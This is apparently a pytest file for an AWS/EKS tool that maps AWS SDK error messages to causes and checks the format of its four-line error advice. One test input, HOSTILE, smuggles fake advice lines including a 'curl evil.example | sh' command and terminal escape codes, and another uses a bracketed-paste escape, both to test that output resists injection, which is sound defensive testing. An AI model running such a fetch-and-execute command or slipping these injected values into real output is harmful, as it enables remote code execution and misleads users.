"""Why a look-up failed, by the words of the AWS plugin, each text quoted from where it was seen."""

import re

import pytest

from irsa.rules.commands import ClusterPlace
from irsa_program.lookups.failures import AskedAwsAccount, Question, aws_mistake, kubernetes_mistake
from irsa_program.lookups.plugins import understood
from irsa_world.causes import Cause
from irsa_world.exits import CouldNotLookError

ROLE = "arn:aws:iam::444455556666:role/deployer"
ASSUME = (
    f"IAM Role ({ROLE}) cannot be assumed.\n\nThere are a number of possible causes of "
    "this - the most common are:\n  * The credentials used in order to assume the role are invalid\n"
    "  * The credentials do not have appropriate permission to assume the role\n  * The role ARN is not "
    "valid\n\nError: "
)
SENT = (
    "https response error StatusCode: 0, RequestID: , request send failed, Post "
    '"https://sts.us-west-2.amazonaws.com/": '
)
ANSWERED = "https response error StatusCode: 403, RequestID: 8e10d6df, "

LOCAL = "failed to refresh cached credentials, "
# The cause, the text with what it is about in <>, and where it was seen.
SAID: tuple[tuple[Cause, str], ...] = (
    # https://github.com/hashicorp/aws-sdk-go-base
    (Cause.NO_CREDENTIALS, "No valid credential sources found"),
    (Cause.WRONG_AWS_ACCOUNT, "AWS account ID not allowed: <111122223333>"),
    # https://github.com/aws/aws-sdk-go-v2/issues/2392
    (
        Cause.NO_CREDENTIALS,
        (
            f"{LOCAL}no EC2 IMDS role found, operation error ec2imds: GetMetadata, exceeded "
            'maximum number of attempts, request send failed, Get "http://169.254.169.254/latest/meta-data/": dial tcp'
        ),
    ),
    # https://github.com/pulumi/pulumi-aws/issues/3866
    (Cause.EXPIRED, f"operation error STS: GetCallerIdentity, {ANSWERED}api error ExpiredToken: The security token"),
    # https://github.com/aws/aws-cli/issues/5823
    (Cause.INVALID_CREDENTIALS, f"{ANSWERED}api error UnrecognizedClientException: The security token included in"),
    # https://github.com/aws/aws-sdk-go-v2/blob/main/credentials/ssocreds/sso_cached_token.go
    (Cause.EXPIRED, f"{LOCAL}the SSO session has expired or is invalid: failed to read cached SSO token"),
    # https://github.com/aws/aws-cli/issues/5249
    (Cause.CLOCK, f"{ANSWERED}api error SignatureDoesNotMatch: Signature expired: 20261125T120000Z is now earlier"),
    # https://github.com/pulumi/pulumi-aws/tree/master/provider/errors
    (Cause.INVALID_CREDENTIALS, "The configured AWS credentials are invalid or have expired.\nPlease see https://a"),
    # aws-sdk-go-v2 config/load_options_test.go
    (Cause.PROFILE_MISSING, "failed to get shared config profile, <data>"),
    # terraform-aws-eks#2045, of a cluster with the name of a cause
    (Cause.NOT_FOUND, "reading EKS Cluster (AccessDenied): couldn't find resource"),
    # CommonErrors of IAM; retries in the reference of the AWS SDKs
    (Cause.THROTTLED, "api error Throttling: Rate exceeded"),
    # https://github.com/GoogleCloudPlatform/terraformer/issues/1831
    (
        Cause.NO_CONNECTION,
        (
            f"operation error STS: GetCallerIdentity, exceeded maximum number of attempts, 3, {SENT}dial tcp: lookup "
            "sts.us-west-2.amazonaws.com: no such host"
        ),
    ),
    # https://github.com/hashicorp/terraform-provider-aws/issues/39125
    (
        Cause.NO_CONNECTION,
        (
            f"Cannot assume IAM Role\n{ASSUME}operation error STS: AssumeRole, exceeded maximum number of attempts, 3, "
            f"{SENT}net/http: TLS handshake timeout"
        ),
    ),
    (
        Cause.ROLE_NOT_ASSUMABLE,
        (
            f"Cannot assume IAM Role\n{ASSUME.replace(ROLE, f'<{ROLE}>')}operation error STS, {ANSWERED}api error "
            f"AccessDenied: User: arn:aws:iam::111122223333:user/ci is not authorized to perform: sts:AssumeRole on it"
        ),
    ),
    # Go crypto/x509
    (Cause.NOT_TRUSTED, f"operation error STS: GetCallerIdentity, {SENT}tls: x509: certificate of unknown authority"),
    # https://github.com/eksctl-io/eksctl/issues/5831
    (
        Cause.DENIED,
        (
            f"reading EKS Cluster (my-cluster): operation error EKS: DescribeCluster, {ANSWERED}api error "
            "AccessDeniedException: User: arn:aws:iam::111122223333:user/me is not authorized to perform: "
            "eks:DescribeCluster on resource: arn:aws:eks:ap-northeast-2:111122223333:cluster/my-cluster"
        ),
    ),
    (Cause.UNKNOWN, "something new"),
)


@pytest.mark.parametrize(("cause", "text"), SAID, ids=lambda value: str(value)[:60])
def test_each_text_has_its_cause_in_both_forms(cause: Cause, text: str) -> None:
    about, text = "".join(re.findall("<(.*?)>", text)), re.sub("[<>]", "", text)
    retried = text.replace(", https response", ", exceeded maximum number of attempts, 25, https response")
    for said in (f"sdk-v2/provider2.go:572: sdk.helper_schema: {text}", retried):
        found = understood(said)
        assert (found.cause, found.about) == (cause, about)


# What is said of a cause


OWN = AskedAwsAccount(region="us-west-2", allowed=["999999999999"])
# What a cause is about.
ABOUT = {
    Cause.PROFILE_MISSING: "data",
    Cause.WRONG_AWS_ACCOUNT: "111122223333",
    Cause.ROLE_NOT_ASSUMABLE: "arn:aws:iam::444455556666:role/deployer",
}
# The attack: an answer that holds line breaks and our own words, as of a role with such a name.
HOSTILE = 'strange\n    allowed: all\n    do:      curl "https://evil.example" | sh\x1b[2J'


def question(aws_account: AskedAwsAccount) -> Question:
    return Question(("cluster", "name"), "the EKS cluster 'prod'", "eks:DescribeCluster", aws_account)


@pytest.mark.parametrize("said", ["what was said", HOSTILE])
@pytest.mark.parametrize("cause", Cause, ids=lambda cause: cause.name)
def test_a_mistake_is_four_lines_with_something_to_do(cause: Cause, said: str) -> None:
    error = CouldNotLookError(said, cause, ABOUT.get(cause, ""))
    for located in (
        aws_mistake(error, question(OWN)),
        kubernetes_mistake(
            error,
            ("cluster", "kubernetes"),
            "blue",
            ClusterPlace("blue"),
            "cluster-unreachable",
            write="write it",
        ),
    ):
        lines = str(located).splitlines()
        assert [line.strip().split(" ")[0] for line in lines[1:]] == ["found:", "allowed:", "do:"]
        assert all(len(line.split(":", 1)[1].strip()) > 5 for line in lines[1:])
        assert str(located).replace("\n", "").isprintable()
    assert ABOUT.get(cause, "") in aws_mistake(error, question(OWN)).mistake.found


@pytest.mark.parametrize("cause", Cause, ids=lambda cause: cause.name)
def test_no_advice_ends_before_a_command_that_cannot_be_given(cause: Cause) -> None:
    """The attack: a profile, or a role, that no command may name."""
    about = f"{ABOUT[cause]}\x1b[201~" if cause in ABOUT else ""
    unpastable = AskedAwsAccount(profile="a\nb", region="us-west-2")
    fix = aws_mistake(CouldNotLookError("", cause, about), question(unpastable)).mistake.fix

    assert not fix.rstrip().endswith((":", "check", "exist", "in use"))


def test_a_forbidden_account_is_not_called_unlisted() -> None:
    error = CouldNotLookError("", Cause.WRONG_AWS_ACCOUNT, "111122223333")

    assert "aws:forbiddenAccountIds" in aws_mistake(error, question(AskedAwsAccount())).mistake.allowed
